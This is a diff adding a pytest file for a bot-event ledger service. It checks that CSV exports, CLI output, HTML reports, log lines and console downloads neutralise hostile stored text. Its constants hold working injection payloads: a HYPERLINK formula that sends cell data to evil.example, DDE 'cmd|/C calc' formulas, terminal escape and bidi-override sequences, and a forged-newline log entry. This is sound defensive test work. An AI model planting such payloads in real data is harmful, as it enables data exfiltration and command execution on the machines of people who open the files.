@@ -1,0 +1,188 @@
+"""The read side against stored hostile text: what a verified portal (bot codes, user names,
+user ids) or anyone on the internet (a refused delivery's claimed portal) can put in the
+ledger must not become a formula in a spreadsheet, an escape sequence in a terminal, or
+script in a browser."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import html
+import io
+import logging
+import re
+from pathlib import Path
+from urllib.parse import quote
+
+import orjson
+import pytest
+
+from tests.conftest import MEMBER_ID, Database, sample
+from tests.helpers import PROJECTOR, Client
+from tests.test_cli import run
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+ESCAPE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
+USER = "+1+cmd|' /C calc'!A0"
+NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+CLAIMED = "-2+3+cmd|' /C calc'!A0" + ESCAPE
+
+
+def _form(text: str) -> str:
+    return quote(text, safe="")
+
+
+def hostile_delete() -> bytes:
+    """The sample ONIMBOTDELETE of bot 567 with a formula for its code and a formula with
+    terminal escapes for the deleting user's id."""
+    body = sample("onimbotdelete-1")
+    body = body.replace(b"data%5BBOT_CODE%5D=BOT", b"data%5BBOT_CODE%5D="
+                        + _form(FORMULA + ESCAPE).encode(), 1)
+    body = body.replace(b"auth%5Buser_id%5D=27", b"auth%5Buser_id%5D="
+                        + _form(USER + ESCAPE).encode(), 1)
+    assert body != sample("onimbotdelete-1")
+    return body
+
+
+def hostile_message() -> bytes:
+    """A message from user (the deleter-to-be) whose name is a formula."""
+    body = sample("onimbotmessageadd-1")
+    body = body.replace(b"auth%5Buser_id%5D=27", b"auth%5Buser_id%5D="
+                        + _form(USER + ESCAPE).encode())
+    return re.sub(rb"data%5BUSER%5D%5BNAME%5D=[^&]*",
+                  b"data%5BUSER%5D%5BNAME%5D=" + _form(NAME + ESCAPE).encode(), body)
+
+
+def refused() -> bytes:
+    """A delivery from nobody: a claimed portal that is a formula with escapes."""
+    return ("event=ONIMBOTDELETE&auth%5Bmember_id%5D=" + _form(CLAIMED)
+            + "&auth%5Bapplication_token%5D=nope").encode()
+
+
+async def _deliver(database: Database) -> None:
+    from aiohttp.test_utils import TestClient, TestServer
+
+    from ledger.settings import Settings
+    from ledger.web import create_app
+    from tests.helpers import install_sample_portal, post
+
+    settings = Settings(database_url=database.service_dsn, run_projector=False)
+    async with TestClient(TestServer(create_app(settings))) as client:
+        await install_sample_portal(client)
+        for body in [sample("onimbotjoinchat-1"), hostile_message(), hostile_delete()]:
+            status, answer = await post(client, body)
+            assert status == 200, answer
+        status, answer = await post(client, refused())
+        assert status in (401, 403), answer
+
+
+@pytest.fixture
+def hostile(database: Database) -> Database:
+    asyncio.run(_deliver(database))
+    assert run(database, "project", "--once").exit_code == 0
+    return database
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def _formula_cells(text: str) -> list[str]:
+    return [c for c in _cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+@pytest.mark.parametrize("kind", ["events", "bots", "deletions"])
+def test_cli_csv_exports_hold_no_cell_a_spreadsheet_would_run(
+    hostile: Database, tmp_path: Path, kind: str
+) -> None:
+    out = tmp_path / f"{kind}.csv"
+    result = run(hostile, "export", kind, "--format", "csv", "--output", str(out))
+    assert result.exit_code == 0, result.output
+    text = out.read_text(encoding="utf-8")
+    assert USER in text  # the hostile text is there, as text
+    assert _formula_cells(text) == []
+
+
+@pytest.mark.parametrize("command", [["bots"], ["deletions"], ["rejections"], ["events"],
+                                     ["history", "--portal", MEMBER_ID, "--bot", "567"]])
+@pytest.mark.parametrize("as_json", [False, True])
+def test_cli_output_carries_no_terminal_control_character(
+    hostile: Database, command: list[str], as_json: bool
+) -> None:
+    result = run(hostile, *command, *(["--json"] if as_json else []))
+    assert result.exit_code == 0, result.output
+    controls = re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]",
+                          result.output)
+    assert controls == [], (command, result.output)
+    if as_json and command[0] in ("bots", "deletions"):
+        values = [orjson.loads(line) for line in result.output.splitlines()]
+        # JSON still says exactly what is stored
+        assert any(ESCAPE in v for record in values for v in record.values()
+                   if isinstance(v, str))
+
+
+def _report(hostile: Database, tmp_path: Path) -> str:
+    output = tmp_path / "r.html"
+    made = run(hostile, "report", "--output", str(output))
+    assert made.exit_code == 0, made.output
+    return output.read_text(encoding="utf-8")
+
+
+def test_the_report_embeds_no_formula_and_forbids_script(
+    hostile: Database, tmp_path: Path
+) -> None:
+    text = _report(hostile, tmp_path)
+    for name in ("registry", "deletions"):
+        found = re.search(rf'<pre class="export" id="export-{name}">(.*?)</pre>', text, re.S)
+        assert found
+        assert _formula_cells(html.unescape(found.group(1))) == [], name
+    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
+    assert csp, "the report states its own Content-Security-Policy"
+    assert "default-src 'none'" in csp.group(1)
+    assert "script-src" not in csp.group(1)
+    assert run(hostile, "report", "--check", str(tmp_path / "r.html")).exit_code == 0
+
+
+def test_a_log_line_cannot_be_forged_or_drive_a_terminal() -> None:
+    """The refusal warning names the claimed portal, which anyone on the internet chooses."""
+    from ledger.cli.app import configure_logging
+    from ledger.settings import Settings
+
+    configure_logging(Settings(database_url="postgresql://x@/y"), debug=False, command="serve")
+    record = logging.makeLogRecord({
+        "name": "ledger.intake", "levelno": logging.WARNING, "levelname": "WARNING",
+        "msg": "rejected %s from %s for portal %s: %s",
+        "args": ("ONIMBOTDELETE", "203.0.113.9", "x\n2026-01-01 ERROR forged" + ESCAPE, "no"),
+    })
+    handlers = logging.getLogger().handlers
+    assert handlers
+    for handler in handlers:
+        line = handler.format(record)
+        assert not re.search("[\n\x1b\u202e]", line), line
+        assert "x\\n2026-01-01 ERROR forged\\x1b]0;owned" in line
+
+
+async def test_console_downloads_hold_no_formula_even_from_unauthenticated_senders(
+    client: Client,
+) -> None:
+    from tests.helpers import install_sample_portal, post
+    from tests.test_console import make_token, page, sign_in
+
+    await install_sample_portal(client)
+    for body in [sample("onimbotjoinchat-1"), hostile_message(), hostile_delete()]:
+        assert (await post(client, body))[0] == 200
+    assert (await post(client, refused()))[0] in (401, 403)
+    assert client.app is not None
+    await client.app[PROJECTOR].catch_up()
+    assert (await sign_in(client, await make_token(client))).status == 303
+    for table in ("/console/", "/console/bots", "/console/deletions", "/console/events",
+                  "/console/rejections"):
+        text = await page(client, table)
+        link = re.search(r'href="(/console/download/[a-z]+\.csv[^"]*)"', text)
+        assert link, table
+        response = await client.get(html.unescape(link.group(1)))
+        assert response.status == 200, table
+        downloaded = (await response.read()).decode()
+        assert _formula_cells(downloaded) == [], table
+        if table == "/console/rejections":
+            assert "'" + CLAIMED in downloaded  # kept, as text
